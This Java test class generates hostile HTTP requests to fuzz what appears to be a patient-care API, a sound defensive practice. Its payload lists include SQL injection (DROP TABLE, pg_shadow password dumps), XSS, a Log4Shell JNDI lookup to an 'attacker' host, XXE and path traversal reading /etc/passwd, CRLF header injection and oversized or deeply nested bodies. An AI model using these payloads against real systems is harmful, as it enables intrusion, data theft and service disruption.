package io.cairn.systemtests.attacks;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.cairn.systemtests.faults.Api;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

/**
 * Malformed and hostile requests for one operation of the API document: hostile path ids and query values, wrong
 * content types, broken and oversized bodies, and for every field of the body (nested ones too) wrong types, missing
 * and extra fields, huge strings and arrays, deep nesting, invalid UTF-8, injection strings and absurd numbers.
 */
final class HostileRequests {

    /** One request to send. The body is raw bytes, so it may be anything, invalid UTF-8 included. */
    record HostileRequest(String kind, String method, String path, String contentType, byte[] body) {

        Api.Answer sendTo(Api api, String token, Map<String, String> headers) {
            return api.send(method, path, contentType, body, token, headers);
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    static final List<String> HOSTILE_IDS = List.of("not-a-uuid", "..%2F..%2F..%2Fetc%2Fpasswd", "..", "%2e%2e",
            "00000000-0000-0000-0000-000000000000", "'%20OR%20'1'%3D'1", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%00", "%C3%28", "a".repeat(5000), "-1", "99999999999999999999999", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
            "12345678-1234-1234-1234-1234567890123");

    static final List<String> HOSTILE_QUERY_VALUES = List.of("not-a-value", "-1", "0", "99999999999999999999",
            "2147483648", "1e309", "' OR '1'='1", "<script>alert(1)</script>", "x".repeat(10000), "\u0000",
            "2026-13-45", "../../etc/passwd", "%", "[]", "{}");

    static final List<JsonNode> HOSTILE_STRINGS = List.of(NODES.textNode("' OR '1'='1"),
            NODES.textNode("'; DROP TABLE patient; --"), NODES.textNode("1; SELECT pg_sleep(10)"),
            NODES.textNode("\" OR \"\"=\""), NODES.textNode("<script>alert(document.cookie)</script>"),
            NODES.textNode("<img src=x onerror=alert(1)>"), NODES.textNode("${jndi:ldap://attacker/x}"),
            NODES.textNode("{{7*7}}"), NODES.textNode("../../../../etc/passwd"), NODES.textNode("\u0000\u0001\u001f"),
            NODES.textNode("\u202e\uD83D\uDE00 \uFFFF"), NODES.textNode(""), NODES.textNode("   "),
            NODES.textNode("x".repeat(65_536)), NODES.textNode("admin'--"),
            NODES.textNode("1' UNION SELECT usename, passwd FROM pg_shadow --"), NODES.textNode("\\"),
            NODES.textNode("a\r\nX-Injected: 1"), NODES.textNode("%s%s%s%n"), NODES.textNode("*)(uid=*"),
            NODES.textNode("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
            NODES.textNode("{\"$gt\":\"\"}"), NODES.textNode("javascript:alert(1)"), NODES.textNode("\uD800"));

    static final List<JsonNode> HOSTILE_NUMBERS = List.of(NODES.numberNode(-1), NODES.numberNode(0),
            NODES.numberNode(-2147483649L), NODES.numberNode(2147483648L), NODES.numberNode(Long.MAX_VALUE),
            NODES.numberNode(new java.math.BigInteger("99999999999999999999999999999999")),
            NODES.numberNode(1.5), NODES.numberNode(-1e300), NODES.numberNode(new java.math.BigDecimal("1e400")),
            NODES.numberNode(new java.math.BigDecimal("1e-400")), NODES.numberNode(-0.0), NODES.numberNode(0.1));

    static final List<JsonNode> WRONG_TYPES = List.of(NODES.textNode("a string"), NODES.numberNode(42),
            NODES.booleanNode(true), NODES.arrayNode().add(1), NODES.objectNode().put("x", 1), NODES.nullNode());

    private final ApiDocument document;
    private final Map<String, String> knownIds;

    HostileRequests(ApiDocument document, Map<String, String> knownIds) {
        this.document = document;
        this.knownIds = knownIds;
    }

    List<HostileRequest> of(ApiDocument.Operation operation) {
        List<HostileRequest> requests = new ArrayList<>();
        String path = concretePath(operation);
        byte[] sample = operation.takesBody() ? bytes(sample(operation.body(), 0)) : null;
        String json = operation.takesBody() ? "application/json" : null;

        // Hostile ids in the path.
        for (String parameter : operation.pathParameters()) {
            for (String id : HOSTILE_IDS) {
                String hostile = operation.path().replace("{" + parameter + "}", id);
                for (String other : operation.pathParameters()) {
                    hostile = hostile.replace("{" + other + "}", idFor(operation.path(), other));
                }
                requests.add(new HostileRequest("path id", operation.method(), hostile, json, sample));
            }
        }
        // Hostile query values.
        for (JsonNode parameter : operation.queryParameters()) {
            String name = parameter.path("name").asText();
            for (String value : HOSTILE_QUERY_VALUES) {
                requests.add(new HostileRequest("query value", operation.method(), path + "?" + name + "="
                        + URLEncoder.encode(value, StandardCharsets.UTF_8), json, sample));
            }
            requests.add(new HostileRequest("query repeated", operation.method(), path + "?" + name + "=1&" + name
                    + "=2", json, sample));
        }
        requests.add(new HostileRequest("unknown query", operation.method(), path + "?size=-5&page=-1&sort=id;drop",
                json, sample));
        if (!operation.takesBody()) {
            // A body where none belongs.
            requests.add(new HostileRequest("unexpected body", operation.method(), path, "application/json",
                    "{\"x\":1}".getBytes(StandardCharsets.UTF_8)));
            return requests;
        }
        // Wrong content types and broken bodies.
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json; charset=utf-16", "image/png")) {
            requests.add(new HostileRequest("content type", operation.method(), path, type, sample));
        }
        requests.add(new HostileRequest("no content type", operation.method(), path, null, sample));
        for (String broken : List.of("", "{", "}", "null", "[]", "\"text\"", "42", "true", "{\"a\":}", "{'a':1}",
                "{\"a\":1,}", "{\"a\":1}{\"b\":2}", "\uFEFF{}", "{\"a\":\"\\ud800\"}", "/* comment */ {}")) {
            requests.add(new HostileRequest("malformed json", operation.method(), path, json,
                    broken.getBytes(StandardCharsets.UTF_8)));
        }
        if (sample.length > 2) {
            requests.add(new HostileRequest("truncated json", operation.method(), path, json,
                    java.util.Arrays.copyOf(sample, sample.length / 2)));
        }
        requests.add(new HostileRequest("invalid utf-8", operation.method(), path, json,
                new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' }));
        requests.add(new HostileRequest("deep nesting", operation.method(), path, json,
                ("[".repeat(50_000) + "]".repeat(50_000)).getBytes(StandardCharsets.UTF_8)));
        requests.add(new HostileRequest("deep nesting", operation.method(), path, json,
                ("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)).getBytes(StandardCharsets.UTF_8)));
        requests.add(new HostileRequest("oversized body", operation.method(), path, json,
                ("{\"a\":\"" + "x".repeat(2_200_000) + "\"}").getBytes(StandardCharsets.UTF_8)));
        requests.add(new HostileRequest("huge array body", operation.method(), path, json,
                ("[" + "1,".repeat(200_000) + "1]").getBytes(StandardCharsets.UTF_8)));
        // Field by field, at every depth of the sample body.
        JsonNode body = sample(operation.body(), 0);
        if (body instanceof ObjectNode object) {
            mutateFields(operation, path, object, object, "", operation.body(), requests, 0);
            ObjectNode extra = object.deepCopy();
            extra.put("isAdmin", true);
            requests.add(new HostileRequest("extra field", operation.method(), path, json, bytes(extra)));
            ObjectNode duplicate = object.deepCopy();
            requests.add(new HostileRequest("duplicate key", operation.method(), path, json,
                    (bytesAsString(duplicate).replaceFirst("\\{", "{\"version\":0,\"version\":\"x\","))
                            .getBytes(StandardCharsets.UTF_8)));
        }
        return requests;
    }

    /** Replaces each field of {@code target} (inside {@code root}) by every hostile value, one request each. */
    private void mutateFields(ApiDocument.Operation operation, String path, ObjectNode root, ObjectNode target,
            String prefix, JsonNode schema, List<HostileRequest> requests, int depth) {
        JsonNode properties = document.resolve(schema).path("properties");
        List<String> names = new ArrayList<>();
        target.fieldNames().forEachRemaining(names::add);
        for (String name : names) {
            JsonNode original = target.get(name);
            List<JsonNode> values = new ArrayList<>(WRONG_TYPES);
            values.addAll(HOSTILE_STRINGS);
            values.addAll(HOSTILE_NUMBERS);
            values.add(hugeArray());
            values.add(deepValue());
            for (JsonNode value : values) {
                target.set(name, value);
                requests.add(new HostileRequest("field " + prefix + name, operation.method(), path,
                        "application/json", bytes(root)));
            }
            target.remove(name);
            requests.add(new HostileRequest("missing " + prefix + name, operation.method(), path, "application/json",
                    bytes(root)));
            target.set(name, original);
            JsonNode fieldSchema = document.resolve(properties.path(name));
            if (depth < 2 && original instanceof ObjectNode nested) {
                mutateFields(operation, path, root, nested, prefix + name + ".", fieldSchema, requests, depth + 1);
            } else if (depth < 2 && original instanceof ArrayNode array && array.size() > 0
                    && array.get(0) instanceof ObjectNode first) {
                mutateFields(operation, path, root, first, prefix + name + "[0].", fieldSchema.path("items"),
                        requests, depth + 1);
            }
        }
    }

    /** A plausible body for the schema: its example when the document gives one, else one built from the types. */
    JsonNode sample(JsonNode schema, int depth) {
        JsonNode resolved = document.resolve(schema);
        JsonNode example = resolved.path("examples").path(0);
        if (!example.isMissingNode() && depth == 0) {
            return withKnownIds(example.deepCopy());
        }
        if (resolved.has("enum")) {
            return resolved.get("enum").get(0);
        }
        String type = typeOf(resolved);
        switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 4) {
                    resolved.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(),
                            sample(p.getValue(), depth + 1)));
                }
                return withKnownIds(object);
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (depth < 4) {
                    array.add(sample(resolved.path("items"), depth + 1));
                }
                return array;
            }
            case "integer" -> {
                return NODES.numberNode(1);
            }
            case "number" -> {
                return NODES.numberNode(1.0);
            }
            case "boolean" -> {
                return NODES.booleanNode(true);
            }
            default -> {
                return switch (resolved.path("format").asText()) {
                    case "uuid" -> NODES.textNode(knownIds.getOrDefault("patient", java.util.UUID.randomUUID()
                            .toString()));
                    case "date" -> NODES.textNode(java.time.LocalDate.now().toString());
                    case "date-time" -> NODES.textNode(java.time.Instant.now().toString());
                    default -> NODES.textNode("text");
                };
            }
        }
    }

    private JsonNode withKnownIds(JsonNode node) {
        if (node instanceof ObjectNode object) {
            for (Iterator<Map.Entry<String, JsonNode>> fields = object.fields(); fields.hasNext();) {
                Map.Entry<String, JsonNode> field = fields.next();
                String known = knownIds.get(field.getKey().replaceAll("Id$", ""));
                if (known != null && field.getValue().isTextual()) {
                    field.setValue(NODES.textNode(known));
                } else {
                    withKnownIds(field.getValue());
                }
            }
        } else if (node instanceof ArrayNode array) {
            array.forEach(this::withKnownIds);
        }
        return node;
    }

    private static String typeOf(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode t : type) {
                if (!t.asText().equals("null")) {
                    return t.asText();
                }
            }
        }
        if (type.isTextual()) {
            return type.asText();
        }
        return schema.has("properties") ? "object" : "string";
    }

    /** The operation's path with real ids, so that requests reach the resource and its validation. */
    String concretePath(ApiDocument.Operation operation) {
        String path = operation.path();
        for (String parameter : operation.pathParameters()) {
            path = path.replace("{" + parameter + "}", idFor(operation.path(), parameter));
        }
        return path;
    }

    /** The record of this kind the requests use. */
    String idOf(String kind) {
        return knownIds.get(kind);
    }

    private String idFor(String template, String parameter) {
        if (parameter.equals("code")) {
            return "PHQ-9";
        }
        String resource = template.replace("/api/v1/", "").split("/")[0];
        String key = switch (resource) {
            case "patients" -> "patient";
            case "assessments" -> "assessment";
            case "consents" -> "consent";
            case "referrals" -> "referral";
            case "treatment-plans" -> "plan";
            case "tracks" -> "track";
            case "sessions" -> "session";
            case "aftercare-referrals" -> "aftercareReferral";
            case "check-ins" -> "checkIn";
            case "tasks" -> "task";
            default -> "patient";
        };
        return knownIds.getOrDefault(key, java.util.UUID.randomUUID().toString());
    }

    private static JsonNode hugeArray() {
        ArrayNode array = NODES.arrayNode();
        for (int i = 0; i < 10_000; i++) {
            array.add("item-" + i);
        }
        return array;
    }

    private static JsonNode deepValue() {
        JsonNode value = NODES.textNode("bottom");
        for (int i = 0; i < 500; i++) {
            value = NODES.objectNode().set("a", value);
        }
        return value;
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String bytesAsString(JsonNode node) {
        return new String(bytes(node), StandardCharsets.UTF_8);
    }
}
